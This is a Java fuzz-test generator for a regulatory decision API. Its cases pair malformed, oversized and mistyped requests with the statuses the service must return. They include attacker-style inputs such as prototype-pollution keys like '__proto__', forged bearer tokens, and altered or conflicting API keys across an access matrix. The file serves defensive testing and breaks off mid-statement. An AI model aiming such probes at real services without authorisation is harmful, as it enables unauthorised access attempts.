package org.reglament.api;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.function.Consumer;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.util.RawValue;

/**
 * Requests for the fuzz probe, from a seeded generator: each valid request of every endpoint mutated the ways a
 * careless client or an attacker would (wrong JSON types, dates in other forms and years, numbers with huge
 * exponents, keys given twice, unknown or missing fields, broken JSON, bodies too large, wrong methods and media
 * types), random values of the right types (which must never fail the service), and every audit and metrics endpoint
 * asked with every kind of credential, good, wrong and forged. Each case says what the service must answer.
 */
final class FuzzCases {
    static final String DECIDER = "local-decider-key";
    static final String AUDITOR = "local-auditor-key";
    static final String METRICS = "local-metrics-key";
    /** Roles AUDITOR and KB_PROPOSER. */
    static final String PROPOSER = "local-proposer-key";
    static final Set<Integer> REFUSED = Set.of(400);
    static final Set<Integer> ANY = Set.of();

    /**
     * One request and what must come back: a status from {@code statuses} (any status below 500 when empty), and for a
     * refusal naming a field, that field among the problem's {@code errors}.
     */
    record Case(String endpoint, String method, String path, Map<String, String> headers, byte[] body, boolean chunked,
                boolean raw, Set<Integer> statuses, String field, String what) {
        boolean generatedInvalid() {
            return !statuses.isEmpty() && statuses.stream().allMatch(status -> status >= 400);
        }
    }

    /** A POST endpoint, the valid requests its mutations start from, and what its fields are. */
    record Endpoint(String path, List<String> bases, Set<String> required, Set<String> maps, Set<String> decimals,
                    Map<String, String> headers, Set<Kind> kinds, Set<Integer> refusedAs, boolean sendBase) {
    }

    enum Kind { TYPE, DATE, NUMBER, DUPLICATE, UNKNOWN, REMOVE, MALFORMED, RANDOM, TRANSPORT, CREDENTIALS }

    private static final String SERVICE = "{\"registryId\":\"41000000000001\",\"name\":\"Выдача разрешения\","
            + "\"subservice\":\"Первичная выдача\",\"agency\":\"Агентство\",\"category\":\"REGIONAL\","
            + "\"applicationsPerYear\":101,\"electronicWithoutOriginals\":false,\"inPersonReceptionAtAgency\":true,"
            + "\"feeOrPayment\":true,\"providedViaMfc\":true}";
    private static final Set<String> SERVICE_REQUIRED = Set.of("service", "service.registryId", "service.name",
            "service.category", "service.applicationsPerYear", "service.electronicWithoutOriginals",
            "service.inPersonReceptionAtAgency", "service.feeOrPayment", "service.providedViaMfc");
    private static final Set<Kind> ALL_KINDS = Set.of(Kind.values());

    static List<Endpoint> decisionEndpoints() {
        return List.of(
                decision("/api/v1/decisions/action-matrix", List.of("{\"asOf\":\"2018-10-01\",\"service\":" + SERVICE + "}"),
                        union(Set.of("asOf"), SERVICE_REQUIRED), Set.of(), Set.of()),
                decision("/api/v1/decisions/action-matrix/check", List.of("{\"asOf\":\"2018-10-01\",\"service\":" + SERVICE
                                + ",\"proposal\":{\"cells\":[\"1\",\"1\",\"0\",\"0\",\"1\",\"0\",\"0\",\"1\",\"1\"],"
                                + "\"explanatoryNoteAttached\":true}}"),
                        union(Set.of("asOf", "proposal", "proposal.cells", "proposal.explanatoryNoteAttached"), SERVICE_REQUIRED),
                        Set.of(), Set.of()),
                decision("/api/v1/decisions/period", List.of(
                                "{\"asOf\":\"2018-04-27\",\"jurisdiction\":\"RU\",\"eventDate\":\"2018-04-27\",\"count\":14,"
                                        + "\"unit\":\"working-days\",\"direction\":\"after\"}",
                                "{\"asOf\":\"2014-03-01\",\"jurisdiction\":\"KZ\",\"kind\":\"nth-weekday-of-month\","
                                        + "\"month\":\"2014-03\",\"ordinal\":3,\"weekday\":\"MONDAY\"}",
                                "{\"asOf\":\"2021-01-01\",\"jurisdiction\":\"RU\",\"kind\":\"annual-date\",\"monthDay\":\"03-30\","
                                        + "\"year\":2021,\"decreeNonWorkingDays\":\"skip\"}"),
                        Set.of("asOf", "jurisdiction"), Set.of(), Set.of()),
                decision("/api/v1/decisions/deadline", List.of(
                                "{\"asOf\":\"2018-10-01\",\"act\":\"ru.kamchatka_guidelines\",\"step\":\"implementation\","
                                        + "\"eventDate\":\"2018-10-01\"}",
                                "{\"asOf\":\"2018-10-01\",\"act\":\"ru.kamchatka_guidelines\",\"step\":\"otr-development\","
                                        + "\"eventDate\":\"2018-10-01\",\"parameters\":{\"regulationsReceived\":3},\"language\":\"ru\"}"),
                        Set.of("asOf", "act", "step"), Set.of(), Set.of()),
                decision("/api/v1/decisions/timeline", List.of("{\"asOf\":\"2018-12-03\",\"act\":\"ru.kamchatka_guidelines\","
                                + "\"service\":" + SERVICE + ",\"events\":{\"regulationApproved\":\"2018-10-01\"},"
                                + "\"testingRemarks\":false,\"regulationsReceived\":2}"),
                        union(Set.of("asOf", "act", "events"), SERVICE_REQUIRED), Set.of("events"), Set.of()),
                decision("/api/v1/decisions/e-services-share", List.of(
                                "{\"asOf\":\"2017-01-15\",\"quarter\":\"2016-Q4\",\"percent\":50.2}"),
                        Set.of("asOf", "quarter", "percent"), Set.of(), Set.of("percent")),
                decision("/api/v1/decisions/service-error-rate", List.of("{\"asOf\":\"2017-01-15\",\"errors\":10,\"calls\":1000}"),
                        Set.of("asOf", "errors", "calls"), Set.of(), Set.of()),
                decision("/api/v1/decisions/plan-status", List.of("{\"asOf\":\"2017-01-15\",\"completed\":{\"2.2\":\"2016-12-20\"}}"),
                        Set.of("asOf"), Set.of("completed"), Set.of()),
                decision("/api/v1/decisions/commission-meeting", List.of("{\"asOf\":\"2014-03-17\",\"members\":12,\"present\":6,"
                                + "\"forApproval\":3,\"forReturn\":3,\"chairVote\":\"approve\",\"decisionDate\":\"2014-03-17\","
                                + "\"language\":\"ru\"}"),
                        Set.of("asOf", "members", "present", "forApproval", "forReturn"), Set.of(), Set.of()),
                decision("/api/v1/decisions/completeness", List.of("{\"asOf\":\"2014-05-20\",\"act\":\"kz.decree_845\","
                                + "\"document\":\"survey-report\",\"parts\":[\"1.1\",\"1.2\"],\"demandStatisticsYears\":4,"
                                + "\"receptionMinutes\":15,\"portalIssuanceInstant\":true}"),
                        Set.of("asOf", "act", "document", "parts"), Set.of(), Set.of()));
    }

    /** The auditor's POST endpoints with a body; a candidate is only ever sent in forms refused before compiling. */
    static List<Endpoint> auditEndpoints() {
        return List.of(
                new Endpoint("/api/v1/audit/impact", List.of("{\"against\":\"current\",\"decision\":\"plan-status\","
                        + "\"asOfFrom\":\"2017-01-01\",\"asOfTo\":\"2017-12-31\",\"answeredFrom\":\"2020-01-01T00:00:00Z\","
                        + "\"limit\":3}"), Set.of(), Set.of(), Set.of(), Map.of("X-API-Key", AUDITOR), ALL_KINDS, REFUSED, true),
                new Endpoint("/api/v1/audit/verify", List.of("{\"checkpoints\":[\"reglament.local/decision-log/stream/0\\n1\\nAAAA\\n\"]}"),
                        Set.of("checkpoints"), Set.of(), Set.of(), Map.of("X-API-Key", AUDITOR),
                        Set.of(Kind.TYPE, Kind.DUPLICATE, Kind.UNKNOWN, Kind.MALFORMED, Kind.REMOVE), REFUSED, false),
                // A candidate is compiled in a worker, seconds each: only forms refused before that are sent, not the base.
                new Endpoint("/api/v1/audit/knowledge-bases", List.of("{\"basedOn\":\"current\",\"files\":{\"ru/x.txt\":\"\"}}"),
                        Set.of(), Set.of("files"), Set.of(), Map.of("X-API-Key", PROPOSER),
                        Set.of(Kind.TYPE, Kind.DUPLICATE, Kind.UNKNOWN, Kind.MALFORMED), REFUSED, false));
    }

    private static Endpoint decision(String path, List<String> bases, Set<String> required, Set<String> maps,
                                     Set<String> decimals) {
        return new Endpoint(path, bases, required, maps, decimals, Map.of(), ALL_KINDS, REFUSED, true);
    }

    private final Random random;
    private final ObjectMapper json;
    private final TestIdentityProvider idp;
    private final JsonNodeFactory nodes = JsonNodeFactory.instance;

    FuzzCases(Random random, ObjectMapper json, TestIdentityProvider idp) {
        this.random = random;
        this.json = json;
        this.idp = idp;
    }

    // ---- POST endpoints: mutations of valid requests ----

    List<Case> mutations(Endpoint endpoint, int count) {
        List<Case> cases = new ArrayList<>();
        for (String base : endpoint.sendBase() ? endpoint.bases() : List.<String>of()) {
            cases.add(post(endpoint, base.getBytes(StandardCharsets.UTF_8), Set.of(200), null, "the valid request"));
        }
        Kind[] kinds = endpoint.kinds().toArray(Kind[]::new);
        java.util.Arrays.sort(kinds);
        while (cases.size() < count) {
            JsonNode base = read(endpoint.bases().get(random.nextInt(endpoint.bases().size())));
            Case mutated = mutate(endpoint, base, kinds[random.nextInt(kinds.length)]);
            if (mutated != null) {
                cases.add(mutated);
            }
        }
        return cases;
    }

    private Case mutate(Endpoint endpoint, JsonNode base, Kind kind) {
        List<Node> all = walk(base, endpoint);
        Set<Integer> refused = endpoint.refusedAs();
        switch (kind) {
            case TYPE -> {
                Node node = pick(all.stream().filter(n -> !n.path.isEmpty()).toList());
                List<JsonNode> wrong = new ArrayList<>(wrongTypes(node));
                if (endpoint.required().contains(node.name())) {
                    wrong.add(nodes.nullNode());
                }
                JsonNode value = pick(wrong);
                return post(endpoint, bytes(replaced(base, node.path, value)), refused, node.name(),
                        node.name() + " = " + text(value) + " (" + node.kind + " expected)");
            }
            case DATE -> {
                List<Node> dates = all.stream().filter(n -> n.kind == Leaf.DATE || n.kind == Leaf.MONTH || n.kind == Leaf.INSTANT).toList();
                if (dates.isEmpty()) {
                    return null;
                }
                Node node = pick(dates);
                JsonNode value = pick(node.kind == Leaf.MONTH ? BAD_MONTHS : node.kind == Leaf.INSTANT ? BAD_INSTANTS : BAD_DATES);
                return post(endpoint, bytes(replaced(base, node.path, value)), refused, node.name(),
                        node.name() + " = " + text(value));
            }
            case NUMBER -> {
                List<Node> numbers = all.stream().filter(n -> n.kind == Leaf.INTEGER || n.kind == Leaf.DECIMAL).toList();
                if (numbers.isEmpty()) {
                    return null;
                }
                Node node = pick(numbers);
                JsonNode value = raw(pick(node.kind == Leaf.DECIMAL ? BAD_DECIMALS : BAD_INTEGERS));
                return post(endpoint, bytes(replaced(base, node.path, value)), refused, node.name(),
                        node.name() + " = " + text(value));
            }
            case DUPLICATE -> {
                Node object = pick(all.stream().filter(n -> (n.kind == Leaf.OBJECT || n.kind == Leaf.MAP) && n.value.size() > 0).toList());
                List<String> names = new ArrayList<>();
                object.value.fieldNames().forEachRemaining(names::add);
                String name = pick(names);
                JsonNode second = random.nextBoolean() ? object.value.get(name) : pick(List.of(
                        nodes.textNode("2019-01-01"), nodes.numberNode(7), nodes.booleanNode(true), nodes.textNode("x")));
                String path = join(object.name(), name);
                return post(endpoint, duplicated(base, object.path, name, second), refused, path, path + " given twice");
            }
            case UNKNOWN -> {
                Node object = pick(all.stream().filter(n -> n.kind == Leaf.OBJECT).toList());
                String name = pick(List.of("zzz", "asof", "AsOf", "__proto__", "constructor", "class", "@type", "$ref",
                        "registryID", "percent ", "")) + (random.nextInt(4) == 0 ? String.valueOf(random.nextInt(100)) : "");
                if (name.isEmpty() || object.value.has(name)) {
                    name = "extra" + random.nextInt(1000);
                }
                JsonNode changed = base.deepCopy();
                ((ObjectNode) at(changed, object.path)).set(name, pick(List.of(nodes.numberNode(1), nodes.textNode("x"),
                        nodes.nullNode(), nodes.objectNode())));
                String path = join(object.name(), name);
                return post(endpoint, bytes(changed), refused, path, "unknown field " + path);
            }
            case REMOVE -> {
                List<Node> removable = all.stream().filter(n -> !n.path.isEmpty() && !n.inMap && !n.inArray).toList();
                Node node = pick(removable);
                JsonNode changed = base.deepCopy();
                Object last = node.path.get(node.path.size() - 1);
                ((ObjectNode) at(changed, node.path.subList(0, node.path.size() - 1))).remove((String) last);
                boolean required = endpoint.required().contains(node.name());
                return post(endpoint, bytes(changed), required ? refused : ANY, required ? node.name() : null,
                        "without " + node.name());
            }
            case MALFORMED -> {
                // Refused, naming a field: "(body)", or the field whose value the damage reached first (a quote inserted
                // in a date cuts the date short, and the date is refused before the parser reaches the rest).
                String[] broken = malformed(bytes(base));
                return post(endpoint, broken[1].getBytes(StandardCharsets.ISO_8859_1), refused, null, broken[0]);
            }
            case RANDOM -> {
                JsonNode changed = base.deepCopy();
                int changes = 1 + random.nextInt(3);
                StringBuilder what = new StringBuilder("random values:");
                for (int i = 0; i < changes; i++) {
                    List<Node> leaves = walk(changed, endpoint).stream().filter(n -> n.kind.scalar).toList();
                    Node node = pick(leaves);
                    JsonNode value = plausible(node);
                    changed = replaced(changed, node.path, value);
                    what.append(' ').append(node.name()).append('=').append(text(value));
                }
                if (endpoint.maps().contains("events") && random.nextBoolean()) {
                    ((ObjectNode) changed.get("events")).put(pick(EVENTS), randomDate().toString());
                }
                return post(endpoint, bytes(changed), ANY, null, what.toString());
            }
            case TRANSPORT -> {
                return transport(endpoint, bytes(base));
            }
            case CREDENTIALS -> {
                return credentials(endpoint, bytes(base));
            }
            default -> throw new IllegalStateException(kind.name());
        }
    }

    private Case transport(Endpoint endpoint, byte[] valid) {
        Set<Integer> refused = endpoint.refusedAs().contains(403) ? Set.of(413, 415, 405, 403) : null;
        switch (random.nextInt(6)) {
            case 0 -> {
                return new Case("POST " + endpoint.path(), "POST", endpoint.path(), headers(endpoint, "application/json"),
                        padded(valid, 70_000), false, false, refused == null ? Set.of(413) : refused, null, "70 KB body");
            }
            case 1 -> {
                return new Case("POST " + endpoint.path(), "POST", endpoint.path(), headers(endpoint, "application/json"),
                        padded(valid, 70_000), true, false, refused == null ? Set.of(413) : refused, null, "70 KB body, chunked");
            }
            case 2 -> {
                Set<Integer> answered = endpoint.refusedAs().contains(403) ? Set.of(200, 400, 403) : Set.of(200);
                return new Case("POST " + endpoint.path(), "POST", endpoint.path(), headers(endpoint, "application/json"), valid,
                        true, false, answered, null, "valid body, chunked");
            }
            case 3 -> {
                String type = pick(List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                        "multipart/form-data; boundary=x", "application/json-patch+json"));
                return new Case("POST " + endpoint.path(), "POST", endpoint.path(), headers(endpoint, type), valid, false, false,
                        refused == null ? Set.of(415) : refused, null, "Content-Type " + type);
            }
            case 4 -> {
                return new Case("POST " + endpoint.path(), "POST", endpoint.path(), headers(endpoint, null), valid, false, false,
                        refused == null ? Set.of(415) : refused, null, "no Content-Type");
            }
            default -> {
                String method = pick(List.of("PUT", "DELETE", "PATCH"));
                return new Case("POST " + endpoint.path(), method, endpoint.path(), headers(endpoint, "application/json"), valid,
                        false, false, refused == null ? Set.of(405) : refused, null, method);
            }
        }
    }

    /** A valid decision request with a credential: the wrong ones are 401 even where anonymous callers are answered. */
    private Case credentials(Endpoint endpoint, byte[] valid) {
        if (!endpoint.headers().isEmpty()) {
            return null; // the audit endpoints' credentials are the access matrix's business
        }
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("Content-Type", "application/json");
        switch (random.nextInt(5)) {
            case 0 -> {
                headers.put("X-API-Key", pick(List.of("nope", "local-decider-ke", "local-decider-key2", "LOCAL-DECIDER-KEY", "", "local-")));
                return new Case("POST " + endpoint.path(), "POST", endpoint.path(), headers, valid, false, false, Set.of(401), null,
                        "unknown key \"" + headers.get("X-API-Key") + "\"");
            }
            case 1 -> {
                String[] forged = pick(idp.forgeries("registry"));
                headers.put("Authorization", "Bearer " + forged[1]);
                return new Case("POST " + endpoint.path(), "POST", endpoint.path(), headers, valid, false, false, Set.of(401), null,
                        "bearer token " + forged[0]);
            }
            case 2 -> {
                headers.put("Authorization", "Bearer " + idp.token("registry", List.of("DECIDER")));
                return new Case("POST " + endpoint.path(), "POST", endpoint.path(), headers, valid, false, false, Set.of(200), null,
                        "bearer token with role DECIDER");
            }
            case 3 -> {
                headers.put("Authorization", "ApiKey " + DECIDER);
                return new Case("POST " + endpoint.path(), "POST", endpoint.path(), headers, valid, false, false, Set.of(200), null,
                        "Authorization: ApiKey with the decider's key");
            }
            default -> {
                headers.put("X-API-Key", DECIDER);
                return new Case("POST " + endpoint.path(), "POST", endpoint.path(), headers, valid, false, false, Set.of(200), null,
                        "the decider's key");
            }
        }
    }

    private Case post(Endpoint endpoint, byte[] body, Set<Integer> statuses, String field, String what) {
        return new Case("POST " + endpoint.path(), "POST", endpoint.path(), headers(endpoint, "application/json"), body, false, false,
                statuses, field, what);
    }

    private static Map<String, String> headers(Endpoint endpoint, String contentType) {
        Map<String, String> headers = new LinkedHashMap<>(endpoint.headers());
        if (contentType != null) {
            headers.put("Content-Type", contentType);
        }
        return headers;
    }

    // ---- access control: every protected endpoint with every credential ----

    /** A protected endpoint: what an authorized caller gets, and which roles are authorized. */
    record Target(String method, String path, String body, Set<Integer> authorizedAnswer, Set<String> roles) {
    }

    List<Case> accessMatrix(String knownDecisionId) {
        Set<String> auditor = Set.of("AUDITOR");
        List<Target> targets = List.of(
                new Target("GET", "/api/v1/audit/decisions", null, Set.of(200), auditor),
                new Target("GET", "/api/v1/audit/decisions?decision=plan-status&size=2", null, Set.of(200), auditor),
                new Target("GET", "/api/v1/audit/decisions/" + knownDecisionId, null, Set.of(200), auditor),
                new Target("GET", "/api/v1/audit/decisions/" + knownDecisionId + "/proof", null, Set.of(200), auditor),
                new Target("GET", "/api/v1/audit/decisions/no-such-decision", null, Set.of(404), auditor),
                new Target("GET", "/api/v1/audit/verify", null, Set.of(200), auditor),
                new Target("POST", "/api/v1/audit/verify", "{\"checkpoints\":[\"not a checkpoint\"]}", Set.of(200, 400), auditor),
                new Target("POST", "/api/v1/audit/decisions/" + knownDecisionId + "/replay", null, Set.of(200), auditor),
                new Target("POST", "/api/v1/audit/decisions/" + knownDecisionId + "/replay?against=sha256:0", null, Set.of(404), auditor),
                new Target("POST", "/api/v1/audit/impact", "{\"decision\":\"e-services-share\",\"limit\":2}", Set.of(200), auditor),
                new Target("GET", "/api/v1/audit/knowledge-bases", null, Set.of(200), auditor),
                // Refused before compiling (no files) for whoever may propose; 403 for whoever may not.
                new Target("POST", "/api/v1/audit/knowledge-bases", "{\"basedOn\":\"current\",\"files\":{}}", Set.of(400),
                        Set.of("KB_PROPOSER")),
                new Target("DELETE", "/api/v1/audit/knowledge-bases/sha256:0", null, Set.of(404), Set.of("KB_PROPOSER")),
                new Target("GET", "/actuator/prometheus", null, Set.of(200), Set.of("METRICS", "AUDITOR")));
        List<Case> cases = new ArrayList<>();
        for (Target target : targets) {
            for (Credential credential : credentials()) {
                Set<Integer> expected;
                if (credential.roles == null) {
                    expected = Set.of(401);
                } else if (credential.roles.contains(CONFLICT)) {
                    expected = Set.of(401, 403);
                } else if (credential.roles.stream().anyMatch(target.roles::contains)) {
                    expected = target.authorizedAnswer;
                } else {
                    expected = Set.of(403);
                }
                Map<String, String> headers = new LinkedHashMap<>(credential.headers);
                if (target.body != null) {
                    headers.put("Content-Type", "application/json");
                }
                cases.add(new Case(label(target.method, target.path), target.method, target.path, headers,
                        target.body == null ? null : target.body.getBytes(StandardCharsets.UTF_8), false, false, expected,
                        null, credential.what));
            }
        }
        return cases;
    }

    /** No role proved: 401. */
    private static final String NO_ROLE = null;
    /** Two credentials at once: never the stronger one's access. */
    private static final String CONFLICT = "(two credentials)";

    /** A way of presenting oneself, and the roles it proves (null: none, so 401). */
    record Credential(String what, Map<String, String> headers, Set<String> roles) {
        Credential(String what, Map<String, String> headers, String role) {
            this(what, headers, role == null ? null : Set.of(role));
        }
    }

    private List<Credential> credentials() {
        List<Credential> credentials = new ArrayList<>(List.of(
                new Credential("no credential", Map.of(), NO_ROLE),
                new Credential("unknown key", Map.of("X-API-Key", "not-a-key"), NO_ROLE),
                new Credential("empty key", Map.of("X-API-Key", ""), NO_ROLE),
                new Credential("auditor key cut short", Map.of("X-API-Key", AUDITOR.substring(0, AUDITOR.length() - 1)), NO_ROLE),
                new Credential("auditor key and more", Map.of("X-API-Key", AUDITOR + "x"), NO_ROLE),
                new Credential("auditor key in upper case", Map.of("X-API-Key", AUDITOR.toUpperCase()), NO_ROLE),
                new Credential("auditor key as a Basic password", Map.of("Authorization", "Basic "
                        + Base64.getEncoder().encodeToString(("auditor:" + AUDITOR).getBytes(StandardCharsets.UTF_8))), NO_ROLE),
                new Credential("auditor key as a bearer token", Map.of("Authorization", "Bearer " + AUDITOR), NO_ROLE),
                new Credential("empty bearer", Map.of("Authorization", "Bearer "), NO_ROLE),
                new Credential("decider key", Map.of("X-API-Key", DECIDER), "DECIDER"),
                new Credential("metrics key", Map.of("X-API-Key", METRICS), "METRICS"),
                new Credential("auditor key", Map.of("X-API-Key", AUDITOR), "AUDITOR"),
                new Credential("proposer key (AUDITOR, KB_PROPOSER)", Map.of("X-API-Key", PROPOSER),
                        Set.of("AUDITOR", "KB_PROPOSER")),
                new Credential("token KB_PROPOSER", bearer(idp.token("proposer", List.of("KB_PROPOSER"))), "KB_PROPOSER"),
                new Credential("auditor key, header name in lower case", Map.of("x-api-key", AUDITOR), "AUDITOR"),
                new Credential("Authorization: ApiKey auditor", Map.of("Authorization", "ApiKey " + AUDITOR), "AUDITOR"),
                new Credential("Authorization: ApiKey metrics", Map.of("Authorization", "ApiKey " + METRICS), "METRICS"),
                new Credential("Authorization: ApiKey unknown", Map.of("Authorization", "ApiKey nope"), NO_ROLE),
                new Credential("token AUDITOR", bearer(idp.token("auditor@ministry", List.of("AUDITOR"))), "AUDITOR"),
                new Credential("token AUDITOR, scheme in lower case", Map.of("Authorization", "bearer "
                        + idp.token("auditor@ministry", List.of("AUDITOR"))), "AUDITOR"),
                new Credential("token DECIDER", bearer(idp.token("registry", List.of("DECIDER"))), "DECIDER"),
                new Credential("token METRICS", bearer(idp.token("prometheus", List.of("METRICS"))), "METRICS"),
                new Credential("token, roles a string", bearer(idp.token("x", "AUDITOR")), "(none)"),
                new Credential("token, roles an object", bearer(idp.token("x", Map.of("AUDITOR", true))), "(none)"),
                new Credential("token, roles numbers", bearer(idp.token("x", List.of(1, 2))), "(none)"),
                new Credential("token, role ADMIN", bearer(idp.token("x", List.of("ADMIN", "ROLE_AUDITOR"))), "(none)"),
                new Credential("token and a decider key", Map.of("X-API-Key", DECIDER, "Authorization", "Bearer "
                        + idp.token("auditor@ministry", List.of("AUDITOR"))), CONFLICT)));
        for (String[] forged : idp.forgeries("auditor@ministry")) {
            credentials.add(new Credential("token " + forged[0], bearer(forged[1]), NO_ROLE));
        }
        return credentials;
    }

    private static Map<String, String> bearer(String token) {
        return Map.of("Authorization", "Bearer " + token);
    }

    // ---- query parameters of the receipt listing, and the knowledge base's GET endpoints ----

    List<Case> receiptQueries(int count) {
        List<Case> cases = new ArrayList<>();
        while (cases.size() < count) {
            Map<String, String> valid = new LinkedHashMap<>();
            if (random.nextBoolean()) {
                valid.put("page", String.valueOf(random.nextInt(4)));
            }
            if (random.nextBoolean()) {
                valid.put("size", String.valueOf(1 + random.nextInt(500)));
            }
            if (random.nextBoolean()) {
                valid.put("asOfFrom", randomDate().toString());
            }
            if (random.nextBoolean()) {
                valid.put("answeredFrom", pick(List.of("2020-01-01T00:00:00Z", "2026-12-01T10:00:00.123+03:00",
                        "2099-12-31T23:59:59.999Z")));
            }
            if (random.nextBoolean()) {
                valid.put("decision", pick(List.of("action-matrix", "period", "registry-action-matrix")));
            }
            if (random.nextInt(3) == 0) {
                cases.add(get("/api/v1/audit/decisions", valid, Map.of("X-API-Key", AUDITOR), Set.of(200), null,
                        "valid parameters " + valid));
                continue;
            }
            String name = pick(List.of("page", "size", "asOfFrom", "asOfTo", "answeredFrom", "answeredTo", "decision"));
            String value = switch (name) {
                // A decision the service does not give would match nothing, as if the log were empty.
                case "decision" -> pick(List.of("x", "", "ACTION-MATRIX", "action_matrix"));
                case "page" -> pick(List.of("-1", "1000001", "2147483647", "2147483648", "99999999999999999999", "abc",
                        "1.5", "1e3", " 1", "0x10", "+1", "٣", "1 "));
                case "size" -> pick(List.of("0", "501", "-1", "abc", "99999999999", "5.0", "1e2", "0x1F4"));
                case "asOfFrom", "asOfTo" -> pick(BAD_QUERY_DATES);
                default -> pick(BAD_QUERY_INSTANTS);
            };
            Map<String, String> invalid = new LinkedHashMap<>(valid);
            invalid.put(name, value);
            cases.add(get("/api/v1/audit/decisions", invalid, Map.of("X-API-Key", AUDITOR), REFUSED, name,
                    name + "=\"" + value + "\""));
        }
        return cases;
    }

    List<Case> knowledgeBaseQueries(int count) {
        List<Case> cases = new ArrayList<>(List.of(
                get("/api/v1/knowledge-base", Map.of(), Map.of(), Set.of(200), null, "the catalogue"),
                get("/api/v1/knowledge-base/editions", Map.of(), Map.of(), REFUSED, "asOf", "no asOf"),
                get("/api/v1/decisions/completeness/parts", Map.of(), Map.of(), Set.of(200), null, "the parts"),
                get("/v3/api-docs", Map.of(), Map.of(), Set.of(200), null, "the API description"),
                get("/actuator/health", Map.of(), Map.of(), Set.of(200), null, "health, anonymous"),
                get("/actuator/health/liveness", Map.of(), Map.of(), Set.of(200), null, "liveness, anonymous"),
                get("/actuator/health/readiness", Map.of(), Map.of(), Set.of(200), null, "readiness, anonymous"),
                get("/actuator/health", Map.of(), Map.of("X-API-Key", "nope"), Set.of(401), null, "health, unknown key")));
        while (cases.size() < count) {
            if (random.nextBoolean()) {
                String date = randomDate().toString();
                cases.add(get("/api/v1/knowledge-base/editions", Map.of("asOf", date), Map.of(), Set.of(200), null,
                        "asOf=" + date));
            } else {
                String bad = pick(BAD_QUERY_DATES);
                cases.add(get("/api/v1/knowledge-base/editions", Map.of("asOf", bad), Map.of(), REFUSED, "asOf",
                        "asOf=\"" + bad + "\""));
            }
        }
        return cases;
    }

    /** The log's public side: checkpoints, the verifier key, proofs; their path and query numbers read strictly. */
    List<Case> logQueries(int count, String knownDecisionId, int stream, long treeSize) {
        List<Case> cases = new ArrayList<>(List.of(
                get("/api/v1/log/checkpoints", Map.of(), Map.of(), Set.of(200), null, "the checkpoints"),
                get("/api/v1/log/public-key", Map.of(), Map.of(), Set.of(200), null, "the verifier key"),
                get("/api/v1/log/decisions/" + knownDecisionId + "/inclusion", Map.of(), Map.of(), Set.of(200), null,
                        "an inclusion proof"),
                get("/api/v1/log/decisions/no-such-decision/inclusion", Map.of(), Map.of(), Set.of(404), null, "no receipt"),
                get("/api/v1/log/streams/" + stream + "/consistency", Map.of(), Map.of(), REFUSED, "fromSize", "no fromSize")));
        while (cases.size() < count) {
            String path = "/api/v1/log/streams/" + stream + "/consistency";
            switch (random.nextInt(3)) {
                case 0 -> {
                    String size = String.valueOf(random.nextInt((int) Math.min(treeSize + 2, 1000)));
                    cases.add(get(path, Map.of("fromSize", size), Map.of(), ANY, null, "fromSize=" + size));
                }
                case 1 -> {
                    String bad = pick(List.of("-1", "abc", "0x10", "1e3", "1.5", " 1", "+1", "99999999999999999999", "٣"));
                    cases.add(get(path, Map.of("fromSize", bad), Map.of(), REFUSED, "fromSize", "fromSize=\"" + bad + "\""));
                }
                default -> {
                    String bad = pick(List.of("abc", "0x1", "1.0", "99999999999", "%20"));
                    cases.add(get("/api/v1/log/streams/" + bad + "/consistency", Map.of("fromSize", "1"), Map.of(),
                            REFUSED, "stream", "stream " + bad));
                }
            }
        }
        return cases;
    }

    private Case get(String path, Map<String, String> query, Map<String, String> headers, Set<Integer> statuses,
                     String field, String what) {
        StringBuilder url = new StringBuilder(path);
        char separator = '?';
        for (Map.Entry<String, String> parameter : query.entrySet()) {
            url.append(separator).append(parameter.getKey()).append('=')
                    .append(URLEncoder.encode(parameter.getValue(), StandardCharsets.UTF_8));
            separator = '&';
        }
        return new Case(label("GET", path), "GET", url.toString(), headers, null, false, false, statuses, field, what);
    }

    // ---- registry files: the batch endpoint's own reader, with the files a careless clerk or an attacker sends ----

    /**
     * The example registries (CSV, CSV in Windows-1251, XLSX) broken the ways files break: cut short, bytes changed,
     * lines dropped or repeated, a header cell lost, JSON Lines with bad lines, the wrong media type. Every one is
     * answered without a 5xx: rows in error are reported in their row (200), a file that cannot be read is a 4xx.
     */
    List<Case> registryFiles(int count) {
        String path = "/api/v1/registries/action-matrix?asOf=2018-10-01";
        byte[] csv = example("registry.csv");
        byte[] check = example("registry-check.csv");
        byte[] cp1251 = example("registry-windows-1251.csv");
        byte[] xlsx = example("registry.xlsx");
        String xlsxType = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
        List<Case> cases = new ArrayList<>(List.of(
                registry(path, "text/csv", csv, Set.of(200), "the example registry"),
                registry(path + "&mode=check", "text/csv", check, Set.of(200), "the example check"),
                registry("/api/v1/registries/action-matrix", "text/csv", csv, REFUSED, "no asOf"),
                registry("/api/v1/registries/action-matrix?asOf=%2B999999999-12-31", "text/csv", csv, REFUSED, "a far asOf"),
                registry("/api/v1/registries/action-matrix?asOf=2018-10-01&mode=x", "text/csv", csv, REFUSED, "mode x"),
                registry(path, "text/csv; charset=windows-1251", cp1251, Set.of(200), "the Windows-1251 example"),
                registry(path, xlsxType, xlsx, Set.of(200), "the example workbook"),
                registry(path, "text/csv", new byte[0], Set.of(400, 422), "an empty file"),
                registry(path, "application/json", csv, Set.of(415), "a CSV sent as JSON")));
        while (cases.size() < count) {
            switch (random.nextInt(6)) {
                case 0 -> {
                    byte[] file = random.nextBoolean() ? csv : xlsx;
                    int at = random.nextInt(file.length);
                    cases.add(registry(path, file == csv ? "text/csv" : xlsxType, java.util.Arrays.copyOf(file, at), ANY,
                            (file == csv ? "CSV" : "workbook") + " cut after " + at + " bytes"));
                }
                case 1 -> {
                    byte[] file = (random.nextBoolean() ? csv : xlsx).clone();
                    int changes = 1 + random.nextInt(8);
                    for (int i = 0; i < changes; i++) {
                        file[random.nextInt(file.length)] = (byte) random.nextInt(256);
                    }
                    cases.add(registry(path, file.length == xlsx.length ? xlsxType : "text/csv", file, ANY,
